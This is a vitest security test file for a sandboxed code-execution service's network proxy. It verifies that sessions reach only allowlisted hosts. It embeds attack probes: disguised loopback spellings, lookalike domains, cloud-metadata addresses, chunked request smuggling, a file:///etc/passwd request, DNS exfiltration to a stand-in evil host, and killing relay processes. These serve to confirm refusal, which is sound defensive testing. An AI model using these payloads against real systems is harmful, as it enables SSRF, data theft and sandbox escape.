/** The network of a session that is granted some of it: what is listed, exactly, and nothing else. */

import { readdirSync } from "node:fs";
import { createServer, type Server } from "node:http";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { arena, attack, counted, lagMs, userArena } from "./attack.ts";

const at = arena();
const userAt = userArena();

/** A server that sessions may reach, and one that they may not. */
let listed: Server;
let unlisted: Server;
let port = 0;
let other = 0;
let trespasses = 0;

beforeAll(async () => {
  unlisted = createServer((_, response) => {
    trespasses += 1;
    response.end("reached");
  });
  other = await listen(unlisted);
  listed = createServer((request, response) => {
    if (request.url === "/away") {
      response.writeHead(302, { location: `http://127.0.0.1:${other}/` }).end();
      return;
    }
    response.end("hello");
  });
  port = await listen(listed);
});
afterAll(() => {
  for (const server of [listed, unlisted]) {
    server.closeAllConnections();
    server.close();
  }
  expect(trespasses).toBe(0);
});

async function listen(server: Server): Promise<number> {
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  return (server.address() as { port: number }).port;
}

const grants = () => ({
  allowPrivateNet: [`127.0.0.1:${port}`],
  allowNet: ["example.com:443", `localhost:${other}`],
});

/** Requests at the proxy itself, past the relay and every library. */
const PROXY = `import socket, urllib.request, urllib.error
def dial():
    connection = socket.socket(socket.AF_UNIX); connection.settimeout(15); connection.connect('/run/k/proxy.sock')
    return connection
def said(connection):
    answer = b''
    while more := connection.recv(65536): answer += more
    return answer.decode('latin1')
def status(request, whole=True):
    with dial() as connection:
        try:
            connection.sendall(request.encode('utf-8', 'surrogateescape'))
            if not whole: connection.shutdown(socket.SHUT_WR)
            answer = said(connection)
        except ConnectionError: return None
        return int(answer.split()[1]) if answer else None
def both(target):
    return status(f'CONNECT {target} HTTP/1.1\\r\\nHost: {target}\\r\\n\\r\\n'), status(f'GET http://{target}/ HTTP/1.1\\r\\nHost: {target}\\r\\n\\r\\n')
`;
const REFUSED = /^\[(\((400|403|None), (400|403|None)\)(, )?)+\]$/;

/** What each of these gives, asked for in both ways. */
const targets = (list: () => readonly string[]) => () =>
  `${PROXY}[both(target) for target in ${JSON.stringify(list())}]`;

describe("what is listed", () => {
  attack(at, userAt, [
    {
      name: "is reached by libraries, tunnels and processes",
      grants,
      code: () => `${PROXY}
def tunnelled():
    with dial() as connection:
        connection.sendall(b'CONNECT 127.0.0.1:${port} HTTP/1.1\\r\\n\\r\\n')
        connection.recv(4096)
        connection.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n')
        return said(connection)[-5:]
import subprocess
program = "import urllib.request as u; print(u.urlopen('http://127.0.0.1:${port}/').read())"
urllib.request.urlopen('http://127.0.0.1:${port}/').read(), tunnelled(), subprocess.run([sys.executable, '-c', program], capture_output=True, text=True).stdout`,
      ends: `(b'hello', 'hello', "b'hello'\\n")`,
      reduced: null,
    },
    {
      name: "is reached past a server of the session's own",
      grants: () => ({ allowPrivateNet: [`localhost:${port}`] }),
      code: () => `import http.server, threading, urllib.request
server = http.server.HTTPServer(('127.0.0.1', 0), http.server.SimpleHTTPRequestHandler)
threading.Thread(target=server.serve_forever, daemon=True).start()
own = urllib.request.urlopen(f'http://127.0.0.1:{server.server_port}/').status
server.shutdown()
own, urllib.request.urlopen('http://localhost:${port}/').read()`,
      ends: "(200, b'hello')",
      reduced: null,
    },
  ]);
});

describe("what is not listed", () => {
  attack(at, userAt, [
    {
      name: "other ports and hosts",
      grants,
      code: targets(() => [
        `127.0.0.1:${other}`,
        "127.0.0.1",
        "127.0.0.1:22",
        "example.com:80",
        "example.com",
        "example.org:443",
        "1.1.1.1:443",
      ]),
      ends: REFUSED,
      reduced: null,
    },
    {
      name: "metadata of clouds",
      grants,
      code: targets(() => [
        "169.254.169.254",
        "169.254.169.254:80",
        "metadata.google.internal:80",
        "[fd00:ec2::254]:80",
      ]),
      ends: REFUSED,
      reduced: null,
    },
    {
      name: "a listed name that leads to this machine",
      grants,
      code: targets(() => [`localhost:${other}`]),
      ends: "[(403, 403)]",
      reduced: null,
    },
    {
      name: "names that look like a listed one",
      grants,
      code: targets(() => [
        "sub.example.com:443",
        "example.com.evil.net:443",
        "evilexample.com:443",
        "example.com.:443",
        "example.com:0443",
        "example.com:443:443",
        "example.com:+443",
        "example.com: 443",
        "example.com\t:443",
        "example.com%2eevil.net:443",
        "example.com\u3002evil.net:443",
        "xn--xample-hva.com:443",
        "ехample.com:443",
        "example.com\\.evil.net:443",
        "example.com#.evil.net:443",
        "example.com/.evil.net:443",
        "*:443",
        ":443",
      ]),
      ends: REFUSED,
      reduced: null,
    },
    {
      name: "a user in front of the host",
      grants,
      code: targets(() => [
        `user@127.0.0.1:${other}`,
        `127.0.0.1:${port}@127.0.0.1:${other}`,
        `example.com:443@127.0.0.1:${other}`,
        `127.0.0.1:${port}%40127.0.0.1:${other}`,
      ]),
      ends: REFUSED,
      reduced: null,
    },
    {
      name: "other spellings of an address",
      grants,
      code: targets(() =>
        [
          "127.1",
          "2130706433",
          "0x7f000001",
          "0177.0.0.1",
          "0x7f.0.0.1",
          "127.0.0.01",
          "127.0.0.1.",
          "0",
          "0.0.0.0",
          "[::1]",
          "[::ffff:127.0.0.1]",
          "[::ffff:7f00:1]",
          "[::]",
          "[::1%lo]",
          "[0:0:0:0:0:ffff:7f00:1]",
          "[64:ff9b::7f00:1]",
        ].flatMap((host) => [`${host}:${port}`, `${host}:${other}`]),
      ),
      ends: REFUSED,
      reduced: null,
    },
    {
      name: "a redirection to what is not listed",
      grants,
      code: () =>
        `${PROXY}try: r = urllib.request.urlopen('http://127.0.0.1:${port}/away').read()\nexcept urllib.error.HTTPError as error: r = error.code\nr`,
      ends: "403",
      reduced: null,
    },
    {
      name: "a second request on a listed one's connection",
      grants,
      code: () => `${PROXY}
first = 'GET http://127.0.0.1:${port}/ HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'
second = 'GET http://127.0.0.1:${other}/ HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'
hidden = f'POST http://127.0.0.1:${port}/ HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n{second}'
[('reached' in said_to, said_to.count('hello') < 2) for said_to in map(lambda text: (lambda c: (c.sendall(text.encode()), c.shutdown(socket.SHUT_WR), said(c))[2])(dial()), (first + second, hidden))]`,
      ends: "[(False, True), (False, True)]",
      reduced: null,
    },
    {
      name: "a foreign Host header",
      grants,
      code: () =>
        `${PROXY}status('GET / HTTP/1.1\\r\\nHost: 127.0.0.1:${other}\\r\\n\\r\\n'), status('GET https://127.0.0.1:${port}/ HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'), status('GET file:///etc/passwd HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n')`,
      ends: "(400, 400, 400)",
      reduced: null,
    },
    {
      name: "names as a way out for data",
      grants,
      code: () => `${PROXY}
def resolved(name):
    try: return socket.getaddrinfo(name, 443)
    except OSError as error: return type(error).__name__
resolved('c2VjcmV0.evil.example'), outcome(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('8.8.8.8', 53))), both('c2VjcmV0.example.com:443')`,
      ends: "('gaierror', 'ENETUNREACH', (403, 403))",
      reduced: null,
    },
    {
      name: "past the proxy",
      grants,
      code: () => `import socket
[outcome(socket.create_connection, address, 2) for address in (('127.0.0.1', ${port}), ('127.0.0.1', ${other}), ('1.1.1.1', 443))]`,
      ends: "['ECONNREFUSED', 'ECONNREFUSED', 'ENETUNREACH']",
      reduced: null,
    },
    {
      name: "no request at all",
      grants,
      code: () => `${PROXY}import os
answers = [status(text, False) for text in ('\\x00' * 1000, 'GET', 'CONNECT', 'CONNECT  HTTP/1.1\\r\\n\\r\\n', 'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n', 'GET http://127.0.0.1:${port}/ HTTP/1.1\\r\\n' + 'A: ' + 'x' * 100_000 + '\\r\\n\\r\\n')]
all(answer is None or 400 <= answer < 500 for answer in answers), urllib.request.urlopen('http://127.0.0.1:${port}/').read()`,
      ends: "(True, b'hello')",
      reduced: null,
    },
  ]);
});

describe("the proxy and the relay", () => {
  attack(at, userAt, [
    {
      name: "a relay that the session kills comes back",
      grants,
      code: () => `${PROXY}import os, time
def relays():
    found = []
    for name in os.listdir('/proc'):
        if not name.isdigit() or int(name) in (1, os.getpid()): continue
        try: fields = open(f'/proc/{name}/stat').read().rsplit(')', 1)[1].split()
        except OSError: continue
        if fields[1] == '1' and fields[0] != 'Z': found.append(int(name))
    return found
killed = relays()
for pid in killed: os.kill(pid, 9)
def answer():
    try: return urllib.request.urlopen('http://127.0.0.1:${port}/', timeout=10).read()
    except OSError: return None
len(killed) > 0, any(answer() == b'hello' for _ in range(3))`,
      ends: "(True, True)",
      reduced: null,
    },
    {
      name: "sockets in the box",
      grants,
      code: "import stat\nsorted(os.path.join(d, f) for top in ('/run', '/tmp', '/opt') for d, _, fs in os.walk(top) for f in fs if stat.S_ISSOCK(os.lstat(os.path.join(d, f)).st_mode)), outcome(os.remove, '/run/k/proxy.sock'), outcome(os.rename, '/run/k/kernel.sock', '/run/k/x')",
      ends: /^\(\['\/run\/k\/kernel\.sock', '\/run\/k\/proxy\.sock'\], '(EROFS|EACCES)', '(EROFS|EACCES)'\)$/,
      reduced: null,
    },
    {
      name: "the proxy of another session, and the daemon's sockets, by their names on the machine",
      code: ({ home }) => {
        const boxes = readdirSync(path.join(home, "run"));
        const files = [
          ...boxes.flatMap((box) =>
            ["proxy.sock", "kernel.sock"].map((name) => path.join(home, "run", box, name)),
          ),
          path.join(home, "daemon.sock"),
        ];
        return `import socket
def reached(file):
    try: socket.socket(socket.AF_UNIX).connect(file); return 'reached'
    except OSError as error: return errno.errorcode[error.errno]
sorted({reached(file) for file in ${JSON.stringify(files)}})`;
      },
      ends: "['ENOENT']",
      reduced: "['EACCES']",
    },
  ]);

  test("a thousand slow connections are bounded, and the daemon answers in time", async () => {
    const { client } = at();
    const slow = client.execute({
      session: "slow",
      grants: grants(),
      timeoutMs: 60_000,
      code: `${PROXY}import errno, time
held, refused = [], 0
for number in range(1000):
    connection = socket.socket(socket.AF_UNIX if number % 2 else socket.AF_INET)
    connection.setblocking(False)
    # A full queue is what it is for.
    while connection.connect_ex('/run/k/proxy.sock' if number % 2 else ('127.0.0.1', 3128)) == errno.EAGAIN: time.sleep(0.01)
    held.append(connection)
deadline = time.monotonic() + 4
while time.monotonic() < deadline:
    for connection in held:
        try: connection.send(b'GET http://127.0.0.1:${port}/ HTTP/1.1\\r\\nX: ')
        except BlockingIOError: pass
        except OSError: refused += 1
    time.sleep(0.1)
refused > 400`,
    });
    const lag = await lagMs(at());
    // Another session's network is its own.
    const calm = await client.execute({
      session: "calm-net",
      grants: grants(),
      code: `${PROXY}urllib.request.urlopen('http://127.0.0.1:${port}/').read()`,
    });
    const record = await slow;
    counted();
    expect(calm.result?.text).toBe("b'hello'");
    expect(record.result?.text ?? record.error?.message).toBe("True");
    expect(lag).toBeLessThan(50);
  }, 60_000);

  test("the reduced tier grants no network", async () => {
    const refused = at().client.createSession({ isolation: "reduced", grants: grants() });
    await expect(refused).rejects.toMatchObject({ code: "invalid_profile" });
    counted("reduced tier");
  });
});
